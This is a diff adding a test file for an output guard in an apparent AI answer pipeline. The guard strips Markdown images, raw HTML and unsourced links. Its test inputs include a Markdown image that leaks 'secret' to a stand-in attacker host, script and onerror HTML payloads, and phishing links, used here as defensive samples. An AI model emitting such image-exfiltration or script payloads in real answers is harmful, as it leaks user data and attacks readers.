@@ -1,0 +1,36 @@
+/** The output guard (server/pipeline/output-guard.ts): no image, no HTML, no link a source does not hold. */
+import { describe, expect, it } from "vitest";
+import { allowedUrls, guardOutput } from "../../../server/pipeline/output-guard";
+
+describe("guardOutput", () => {
+  const allowed = allowedUrls(["See https://intranet.example.com/policy for the full text."], [{ url: "https://news.example.org/a" }]);
+
+  it("removes Markdown images", () => {
+    const result = guardOutput("The museum opens at 9:30 [Source 1]. ![x](https://evil.example/p.png?d=secret)", allowed);
+    expect(result.answer).toBe("The museum opens at 9:30 [Source 1].");
+    expect(result.removed).toEqual(["markdown_image"]);
+  });
+
+  it("removes raw HTML", () => {
+    const result = guardOutput('Opens at 9:30 <img src=x onerror="fetch(1)"><script>alert(1)</script> [Source 1].', allowed);
+    expect(result.answer).not.toMatch(/<|script|onerror/);
+    expect(result.removed).toContain("html");
+  });
+
+  it("keeps links a cited passage or web citation holds, drops others (keeping their words)", () => {
+    const result = guardOutput(
+      "Read [the policy](https://intranet.example.com/policy) and [this](https://news.example.org/a), not [login](https://phish.example/x?t=1) or https://phish.example/y.",
+      allowed,
+    );
+    expect(result.answer).toContain("(https://intranet.example.com/policy)");
+    expect(result.answer).toContain("(https://news.example.org/a)");
+    expect(result.answer).not.toContain("phish.example");
+    expect(result.answer).toContain("login");
+    expect(result.removed).toEqual(["link"]);
+  });
+
+  it("leaves a clean answer untouched", () => {
+    const answer = "Rent is 42,000 NOK a month [Source 2].";
+    expect(guardOutput(answer, allowed)).toEqual({ answer, removed: [] });
+  });
+});
